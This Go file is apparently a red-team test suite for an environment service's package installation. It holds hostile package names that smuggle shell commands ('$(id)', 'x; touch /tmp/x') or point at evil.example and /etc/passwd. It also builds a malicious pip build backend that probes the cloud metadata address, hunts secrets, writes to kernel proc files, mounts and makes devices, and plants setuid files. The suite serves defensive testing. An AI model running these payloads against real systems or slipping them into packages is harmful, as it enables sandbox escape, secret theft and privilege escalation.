package redteam

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"time"
)

// packageCases attack the installation of packages for environments.
func packageCases() []Case {
	return []Case{
		{"packages/names", Critical, "names packages as options, URLs, paths, commands and several lines", "the server rejects each name", packageNames},
		{"packages/build", Critical, "installs a package whose setup program looks for variables, secrets and networks, and tries to leave its sandbox", "it finds nothing of the environment or the host, and reaches only the mirrors", packageBuild},
		{"packages/kept", Critical, "installs a package that leaves set-user-id files, devices, start-up files in home directories, and links that lead out", "the image for programs contains none of them", packageKept},
	}
}

// probe is the name of the package in the lure's index.
const probe = "redteam-probe"

// theIndex returns the lure if the server installs packages from its index, and skips the case
// otherwise: only this index has a package with the attacker's setup program.
func (a *arena) theIndex(ctx context.Context) (*lure, error) {
	return a.index.get(ctx, func(ctx context.Context) (*lure, error) {
		l, err := a.theLure(ctx)
		if err != nil {
			return nil, err
		}
		c, err := a.key(ctx, attackerTenant, envPlain, "environments")
		if err != nil {
			return nil, err
		}
		// No index has this version. The check needs only the server's request for the package's page.
		env, err := a.withPackages(ctx, c, probe+"==0.0.1", nil)
		if err != nil {
			return nil, skip("not run: needs pip_index to be http://%s/simple, and %s among packages: %v", l.addr, probe, err)
		}
		if _, err := a.built(ctx, c, env); err != nil {
			return nil, err
		}
		if len(l.reached("/simple/"+probe)) == 0 {
			return nil, skip("not run: needs pip_index to be http://%s/simple", l.addr)
		}
		return l, gone(ctx, c, "/v1/environments/"+env)
	})
}

// withPackages creates an environment with a pip package, and returns its id.
func (a *arena) withPackages(ctx context.Context, c caller, entry string, more map[string]any) (string, error) {
	config := map[string]any{"type": "cloud", "packages": map[string]any{"pip": []string{entry}}}
	for k, v := range more {
		config[k] = v
	}
	var made struct{ ID string }
	err := c.must(ctx, http.MethodPost, "/v1/environments", map[string]any{"name": "redteam-packages-" + token(4), "config": config}, &made)
	return made.ID, err
}

// build is the state and log of an environment's package build.
type build struct {
	State string
	Log   []string
}

// built waits until an environment's package build ends.
func (a *arena) built(ctx context.Context, c caller, env string) (out build, err error) {
	for {
		var it struct {
			Build *struct {
				State string
				Log   any
			} `json:"package_build"`
		}
		if err := c.must(ctx, http.MethodGet, "/v1/environments/"+env, nil, &it); err != nil {
			return out, err
		}
		if it.Build == nil {
			return out, errors.New("the environment has no packages")
		}
		if it.Build.State != "building" {
			out.State = it.Build.State
			switch log := it.Build.Log.(type) {
			case string:
				out.Log = strings.Split(log, "\n")
			case []any:
				for _, l := range log {
					out.Log = append(out.Log, fmt.Sprint(l))
				}
			}
			return out, nil
		}
		select {
		case <-ctx.Done():
			return out, context.Cause(ctx)
		case <-time.After(200 * time.Millisecond):
		}
	}
}

func packageNames(ctx context.Context, a *arena) error {
	if _, err := a.theIndex(ctx); err != nil {
		return err
	}
	c, err := a.key(ctx, attackerTenant, envPlain, "environments")
	if err != nil {
		return err
	}
	for _, entry := range []string{
		"--index-url=http://evil.example/", "-r/etc/passwd", "-e git+https://evil.example/x", "git+https://evil.example/x", "https://evil.example/x.whl", "/home/user/x.whl", "./x", "../x", "x @ file:///etc/passwd", "x@https://evil.example/x",
		"x; touch /tmp/x", "x && id", "$(id)", "`id`", "x\n--pre", "x\x00", "x --pre", " x", "", strings.Repeat("x", 5000), "x==1; python_version>'3'", "x[a,b", "%s", "x==$(id)", "x==--pre",
	} {
		for _, kind := range []string{"pip", "npm", "apt"} {
			body := map[string]any{"name": "redteam-packages-" + token(4), "config": map[string]any{"type": "cloud", "packages": map[string]any{kind: []string{entry}}}}
			got, err := c.do(ctx, http.MethodPost, "/v1/environments", body)
			if err := unwanted(fmt.Sprintf("the %s package %.60q", kind, entry), got, err); err != nil {
				return err
			}
		}
	}
	return nil
}

// offer adds a version of the probe to the index. Its build backend runs the Python program setup.
func (l *lure) offer(version, setup string) error {
	const project = "[build-system]\nrequires = []\nbuild-backend = \"probe\"\nbackend-path = [\".\"]\n"
	backend := `import base64, hashlib, os, sys, zipfile
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import setup_program
    name = 'redteam_probe-` + version + `'
    files = {'redteam_probe.py': b'', name + '.dist-info/METADATA': b'Metadata-Version: 2.1\nName: ` + probe + `\nVersion: ` + version + `\n', name + '.dist-info/WHEEL': b'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n'}
    record = ''.join('%s,sha256=%s,%d\n' % (n, base64.urlsafe_b64encode(hashlib.sha256(c).digest()).rstrip(b'=').decode(), len(c)) for n, c in files.items())
    with zipfile.ZipFile(os.path.join(wheel_directory, name + '-py3-none-any.whl'), 'w') as z:
        for n, c in files.items(): z.writestr(n, c)
        z.writestr(name + '.dist-info/RECORD', record + name + '.dist-info/RECORD,,\n')
    return name + '-py3-none-any.whl'
`
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	w := tar.NewWriter(z)
	base := "redteam_probe-" + version
	for name, text := range map[string]string{
		"pyproject.toml": project, "probe.py": backend, "setup_program.py": setup, "PKG-INFO": "Metadata-Version: 2.1\nName: " + probe + "\nVersion: " + version + "\n",
	} {
		if err := w.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: base + "/" + name, Mode: 0o644, Size: int64(len(text))}); err != nil {
			return err
		}
		if _, err := w.Write([]byte(text)); err != nil {
			return err
		}
	}
	if err := errors.Join(w.Close(), z.Close()); err != nil {
		return err
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	l.packs[base+".tar.gz"] = out.Bytes()
	return nil
}

// probeSetup tries what a setup program must not do. It fails at the end, because the build log shows
// the output of failed setup programs.
const probeSetup = prelude + `
import threading
def connect(at): socket.create_connection(at, 4).close(); got('connected to', at)
ts = [threading.Thread(target=attempt, args=(connect, at)) for at in (('169.254.169.254', 80), ('10.0.0.1', 80), ('192.0.2.1', 443), ('1.1.1.1', 443), ('127.0.0.1', 18080))]
for t in ts: t.start()
for t in ts: t.join()
def name(): got('example.com is', socket.getaddrinfo('example.com', 80))
attempt(name)
def variables():
    for n, v in os.environ.items():
        if 'redteam' in v and not n.startswith(('PIP_', 'PATH', 'PWD', 'OLDPWD', 'TMP')) and '/tmp' not in v and 'http' not in v: got('the variable', n)
        if n.startswith('REDTEAM_'): got('the variable', n)
attempt(variables)
def files():
    for base in '/home', '/skills', '/mnt', '/data':
        for at, _, fs in os.walk(base):
            for f in fs:
                if 'redteam' in f: got('the file', os.path.join(at, f))
attempt(files)
def write(path, text):
    with open(path, 'w') as f: f.write(text)
    got('wrote', path)
for path, text in ('/proc/sys/kernel/core_pattern', '|/tmp/x'), ('/proc/sysrq-trigger', 'b'), ('/.atoll/redteam', 'x'): attempt(write, path, text)
def mount(): call(libc.mount, b'none', b'/mnt', b'tmpfs', 0, None); got('mounted tmpfs')
attempt(mount)
def device(): os.mknod('/tmp/disk', 0o60666, os.makedev(8, 0)); open('/tmp/disk', 'rb').read(1); got('a disk')
attempt(device)
raise SystemExit('the setup program has tried everything')
`

// install creates an environment with a version of the probe, and waits until its package build ends.
func (a *arena) install(ctx context.Context, version, setup string, more map[string]any) (env string, b build, err error) {
	l, err := a.theIndex(ctx)
	if err != nil {
		return "", b, err
	}
	c, err := a.key(ctx, attackerTenant, envPlain, "environments")
	if err != nil {
		return "", b, err
	}
	if err := l.offer(version, setup); err != nil {
		return "", b, err
	}
	if env, err = a.withPackages(ctx, c, probe+"=="+version, more); err != nil {
		return "", b, err
	}
	b, err = a.built(ctx, c, env)
	return env, b, err
}

func packageBuild(ctx context.Context, a *arena) error {
	more := map[string]any{"permissions": map[string]any{"network": map[string]any{"enabled": true, "unrestricted": true}}}
	_, b, err := a.install(ctx, "1.0."+fmt.Sprint(time.Now().Unix()), probeSetup, more)
	if err != nil {
		return err
	}
	lines := ""
	for _, l := range b.Log {
		lines += strings.TrimLeft(l, " \t│╰─>") + "\n"
	}
	if err := judge(output{Stdout: lines}, 5); err != nil { // the log keeps only the last lines
		return err
	}
	if b.State == "ready" {
		return found("the server installed a package whose setup program failed: %q", b.Log)
	}
	return nil
}

func packageKept(ctx context.Context, a *arena) error {
	const leave = `import os
for path in '/usr/local/bin/redteam-root', '/tmp/redteam-left', '/root/redteam-left', '/home/user/redteam-left', '/var/log/redteam-left', '/run/redteam-left':
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'w') as f: f.write('#!/bin/sh\nid -u\n')
    os.chmod(path, 0o6755)
`
	env, b, err := a.install(ctx, "2.0."+fmt.Sprint(time.Now().Unix()), leave, nil)
	if err != nil {
		return err
	}
	if b.State != "ready" {
		return fmt.Errorf("the package is %s: %q", b.State, b.Log)
	}
	by, err := a.key(ctx, attackerTenant, env, "execute", "read")
	if err != nil {
		return err
	}
	const look = `import os, subprocess
path = '/usr/local/bin/redteam-root'
if not os.path.exists(path): print('nothing is left')
elif os.lstat(path).st_mode & 0o6000: print('GOT a set-user-id file')
for path in '/tmp/redteam-left', '/root/redteam-left', '/home/user/redteam-left', '/var/log/redteam-left', '/run/redteam-left':
    if os.path.lexists(path): print('GOT', path)
print('tried')
`
	e, err := a.execute(ctx, by, "python", look, 20, nil)
	if err != nil {
		return err
	}
	if strings.Contains(e.Stdout, "nothing is left") {
		return fmt.Errorf("the setup program did nothing: %q", b.Log)
	}
	return judge(output{Stdout: e.Stdout, Stderr: e.Stderr}, 1)
}
